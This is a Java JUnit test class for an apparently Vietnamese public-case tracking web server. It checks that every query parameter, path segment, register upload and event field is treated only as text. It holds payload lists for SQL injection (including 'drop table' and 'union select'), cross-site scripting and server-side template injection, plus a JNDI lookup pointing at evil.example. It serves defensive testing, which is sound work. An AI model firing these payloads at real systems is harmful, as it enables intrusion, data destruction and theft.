package vn.nhip.server.attacks;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.web.bind.annotation.RequestMethod;
import vn.nhip.server.attacks.Ground.Route;
import vn.nhip.server.attacks.Wire.Answer;
import vn.nhip.server.index.InventedAugust;

/** Every filter, sort and value of every page is given what databases, templates and browsers would run. */
@AttackedServer
class InjectionTests {
    /** Names that pages read; a page passes over those it does not know. */
    private static final List<String> PARAMETERS = List.of(
            "q",
            "list",
            "clock",
            "state",
            "sort",
            "dir",
            "after",
            "before",
            "page",
            "days",
            "day",
            "from",
            "to",
            "agency",
            "procedure",
            "source",
            "root",
            "period",
            "asof",
            "rules",
            "reading",
            "unit",
            "indicator",
            "part",
            "since",
            "lever",
            "level",
            "kind",
            "group",
            "status",
            "field",
            "show",
            "notice",
            "online",
            "band",
            "volume",
            "zone",
            "known",
            "version",
            "code",
            "note",
            "numbering",
            "text");

    private static final List<String> SQL = List.of(
            "'",
            "''",
            "\"",
            "' or '1'='1",
            "') or ('1'='1",
            "1; drop table cases.event; --",
            "1 union select null, version() --",
            "code; select pg_sleep(5)",
            "desc, (select 1/0)",
            "\\'; select 1; --",
            "%' and 1=cast((select version()) as int) --",
            "$$; select 1; $$",
            "/**/or/**/1=1",
            "ʼ or 1=1 --",
            "＇ or 1=1 --",
            "%EF%BC%87",
            "?",
            ":name",
            "${1}",
            "_%_%_%",
            "\u202e' --",
            "-1",
            "9223372036854775808",
            "1e999",
            "NaN",
            "0x7fffffff",
            "\ud83d\ude00",
            "\u0000",
            "a\u0000b",
            "2026-99-99",
            "x".repeat(3_000));

    private static final List<String> SCRIPT = List.of(
            "<script>alert('zq1')</script>",
            "\"><img src=x onerror=zq2>",
            "' onmouseover='zq3",
            "</textarea><svg/onload=zq4>",
            "javascript:zq5",
            "${7777777*3}",
            "#{7777777*3}",
            "*{7777777*3}",
            "{{7777777*3}}",
            "<%= 7777777*3 %>",
            "__${7777777*3}__::.x",
            "${T(java.lang.Runtime).getRuntime()}",
            "@template.layout.page()",
            "${jndi:ldap://evil.example/a}");

    private static final Pattern TOLD_BY_THE_DATABASE = Pattern.compile(
            "(?i)psqlexception|syntax error|bad sql grammar|org\\.postgresql|jdbc[.:]|jdbcclient|jdbctemplate|sqlstate|unterminated|PostgreSQL 1|at vn\\.nhip|java\\.lang\\.|Whitelabel");

    private static final Pattern EVALUATED = Pattern.compile("23333331|java\\.lang\\.Runtime@");

    /** One of each kind, for every filter on its own; the others go into all of them at once. */
    private static final List<String> ONE_BY_ONE = List.of(
            "'",
            "') or ('1'='1",
            "desc, (select 1/0)",
            "9223372036854775808",
            "a\u0000b",
            "\"><img src=x onerror=zq2>",
            "2026-99-99");

    private final Ground ground;

    InjectionTests(Ground ground) {
        this.ground = ground;
    }

    static Stream<String> strings() {
        return Stream.concat(SQL.stream(), SCRIPT.stream());
    }

    @ParameterizedTest
    @MethodSource("strings")
    void isTextAndNothingElse(String said, CapturedOutput log) {
        Browser browser = ground.everything();
        Map<String, Long> before = ground.rows();
        List<String> wrong = new ArrayList<>();
        String value = Browser.encode(said);
        for (Route route : pages()) {
            // All at once, where a page does not stop at the first that it does not understand; and one by one.
            StringBuilder all = new StringBuilder();
            for (String parameter : PARAMETERS) {
                all.append(all.isEmpty() ? "?" : "&")
                        .append(parameter)
                        .append("=")
                        .append(value);
            }
            judge(wrong, said, route.address() + all, browser);
        }
        for (Route route : ONE_BY_ONE.contains(said) ? lists() : List.<Route>of()) {
            for (String parameter : PARAMETERS) {
                judge(wrong, said, route.address() + "?" + parameter + "=" + value, browser);
            }
        }
        assertThat(wrong).isEmpty();
        assertThat(ground.rows()).isEqualTo(before);
        assertThat(log.getAll()).doesNotContain("bad SQL grammar", "PSQLException", "Servlet.service() for servlet");
    }

    @ParameterizedTest
    @MethodSource("strings")
    void isTextInPathsToo(String said) {
        Browser browser = ground.everything();
        List<String> wrong = new ArrayList<>();
        String value = Browser.encode(said).replace("+", "%20");
        for (Route route : ground.routes(RequestMethod.GET)) {
            if (route.pattern().contains("{")) {
                judge(wrong, said, route.pattern().replaceAll("\\{[^}]+}", value.replace("$", "\\$")), browser);
            }
        }
        assertThat(wrong).isEmpty();
    }

    private static void judge(List<String> wrong, String said, String target, Browser browser) {
        Answer answer = browser.get(target);
        String shown = target.length() > 300 ? target.substring(0, 300) + "…" : target;
        if (answer.status() >= 500) {
            wrong.add(answer.status() + " " + shown);
        }
        // What was said may be repeated, as text.
        if (!TOLD_BY_THE_DATABASE.matcher(said).find()
                && TOLD_BY_THE_DATABASE.matcher(answer.body()).find()) {
            wrong.add("tells of its inside: " + shown + told(answer));
        }
        if (EVALUATED.matcher(answer.body()).find()) {
            wrong.add("evaluated: " + shown);
        }
        boolean page = answer.header("Content-Type").orElse("").startsWith("text/html");
        if (page
                && (!Markup.dangers(answer.body()).isEmpty()
                        || (said.contains("<") && answer.body().contains(said)))) {
            wrong.add("would be run: " + shown + " " + Markup.dangers(answer.body()));
        }
    }

    private static String told(Answer answer) {
        Matcher told = TOLD_BY_THE_DATABASE.matcher(answer.body());
        return told.find() ? " (" + told.group() + ")" : "";
    }

    private List<Route> pages() {
        return ground.routes(RequestMethod.GET).stream()
                .filter(route -> !route.pattern().equals("/index/live"))
                .toList();
    }

    /** Pages of which the filters go into a question to the database, each of which stops at the first thing it does not understand. */
    private List<Route> lists() {
        return pages().stream()
                .filter(route -> Stream.of(
                                "/cases",
                                "/cases.csv",
                                "/cases/quarantine",
                                "/cases/quarantine.csv",
                                "/catalog",
                                "/lookup",
                                "/index/search",
                                "/index/cases")
                        .anyMatch(list -> route.pattern().equals(list)
                                || (list.equals("/catalog") && route.pattern().startsWith(list))))
                .toList();
    }

    @Test
    void findsNoMoreThanItIsAllowedTo() {
        Browser browser = ground.everything();
        String none = browser.get("/cases.csv?list=all&q=zzzzzzzz").body();
        for (String said : List.of("zzzzzzzz' or '1'='1", "zzzzzzzz%' or true --", "zzzzzzzz%", "zzzzzzzz_")) {
            assertThat(browser.get("/cases.csv?list=all&q=" + Browser.encode(said))
                            .body()
                            .lines()
                            .count())
                    .as(said)
                    .isLessThanOrEqualTo(none.lines().count());
        }
    }

    /** Systems send names and codes too: they are shown to people who did not ask for them. */
    @Test
    void isTextWhenItCameInByEventsAndRegisters() {
        Browser browser = ground.everything();
        String evil = "<script>alert('zq1')</script>";
        assertThat(ground.post(
                                "/api/v1/registers/agencies",
                                "text/csv",
                                "code,name,short_name,level,parent,valid_from,seen_on\n"
                                        + "H44,UBND tỉnh Phú Thọ,,PROVINCE,,,2026-08-01\n"
                                        + "H44.66," + evil + "\"><img src=x onerror=zq2>".replace("\"", "")
                                        + "," + evil + ",COMMUNE,H44,2025-07-01,2026-08-01\n")
                        .status())
                .isLessThan(500);
        String received = """
                [{"specversion":"1.0","id":"evil-%d","source":"tan-cong","type":"vn.nhip.case.accepted.v1","subject":"%s",
                  "time":"2026-08-03T08:00:00+07:00","datacontenttype":"application/json",
                  "data":{"procedure":"%s","agency":"H44.66","channel":"ONLINE","due":"2026-08-20T17:00:00+07:00"}}]
                """;
        int number = 0;
        for (String code : List.of(
                "H44.66-260803-<script>alert(1)</script>", "${7777777*3}", "x' onmouseover='zq3", "javascript:zq5")) {
            number++;
            assertThat(ground.post(
                                    "/api/v1/events",
                                    "application/cloudevents-batch+json",
                                    received.replace("evil-%d", "evil-" + number)
                                            .replace("\"subject\":\"%s\"", "\"subject\":\"" + code + "\"")
                                            .replace("%s", "<img src=x onerror=zq2>"))
                            .status())
                    .as(code)
                    .isLessThan(500);
        }
        List<String> wrong = new ArrayList<>();
        for (Route route : pages()) {
            judge(wrong, evil, route.address(), browser);
            judge(wrong, evil, route.address() + "?root=H44&period=2026-08&source=cases", browser);
        }
        for (String target : List.of(
                "/cases?list=all",
                "/cases?list=all&q=H44.66",
                "/cases/quarantine?status=all",
                "/index/units/H44.66?root=H44&period=2026-08&source=cases",
                "/index/search?q=script",
                "/cases/" + InventedAugust.GOOD)) {
            judge(wrong, evil, target, browser);
        }
        assertThat(wrong).isEmpty();
        assertThat(browser.get("/cases?list=all").body())
                .as("it is shown at all")
                .contains("&lt;script");
    }
}
